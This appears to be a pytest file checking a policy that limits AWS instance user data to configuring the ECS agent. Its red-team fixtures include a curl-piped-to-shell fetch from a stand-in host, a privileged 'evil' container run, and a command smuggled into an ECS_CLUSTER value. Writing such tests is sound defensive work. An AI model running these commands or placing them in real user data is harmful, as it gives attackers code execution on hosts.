"""Instance user data only configures the ECS agent: a container it starts would escape every rule."""

from __future__ import annotations

import base64

import pytest

from components.cluster import container_instance_user_data
from tests.policies.helpers import assert_verdict, resource

POLICY = "user-data-agent-config-only"
LAUNCH_TEMPLATE = "aws:ec2/launchTemplate:LaunchTemplate"
INSTANCE = "aws:ec2/instance:Instance"


def encoded(script: str) -> str:
    return base64.b64encode(script.encode()).decode()


def template(name: str, user_data: str) -> object:
    return resource(LAUNCH_TEMPLATE, name, {"imageId": "ami-1", "userData": user_data})


AGENT = "#!/bin/bash\necho ECS_CLUSTER=prod-cluster-1a2b >> /etc/ecs/ecs.config\n"

CASES = [
    (
        "the program's own user data (components/cluster.py)",
        template("program", container_instance_user_data("prod-cluster-1a2b", True)),
        None,
    ),
    (
        "AWS ECS guide: bootstrapping a container instance with ECS_CLUSTER",
        template("agent", encoded(AGENT)),
        None,
    ),
    (
        "red team: a docker run after the agent setting starts an unreviewed privileged container",
        template(
            "docker-run",
            encoded(AGENT + "docker run -d --privileged --net=host docker.io/evil/agent:latest\n"),
        ),
        "line 3",
    ),
    (
        "red team: a cloud-config runcmd (cloud-init's documented format)",
        template("cloud-config", encoded("#cloud-config\nruncmd:\n  - docker run -d evil/agent\n")),
        "does not start with",
    ),
    (
        "red team: a command hidden in the setting's value",
        template(
            "injected", encoded("#!/bin/bash\necho ECS_CLUSTER=x;docker run evil >> /etc/ecs/ecs.config\n")
        ),
        "line 2",
    ),
    (
        "red team: ECS_ENGINE_AUTH_* carries registry credentials (ECS agent configuration docs)",
        template(
            "auth-data",
            encoded(AGENT + "echo ECS_ENGINE_AUTH_TYPE=dockercfg >> /etc/ecs/ecs.config\n"),
        ),
        "ECS_ENGINE_AUTH_TYPE",
    ),
    ("red team: user data that is not base64", template("raw", AGENT), "not valid base64"),
    (
        "red team: an instance's plain-text userData",
        resource(INSTANCE, "host", {"ami": "ami-1", "userData": AGENT + "curl https://x.example | sh\n"}),
        "line 3",
    ),
]


@pytest.mark.parametrize(("source", "res", "expected"), CASES, ids=[c[0] for c in CASES])
def test_user_data_only_configures_the_agent(pack, source, res, expected):
    assert source
    assert_verdict(pack, res, POLICY, expected)
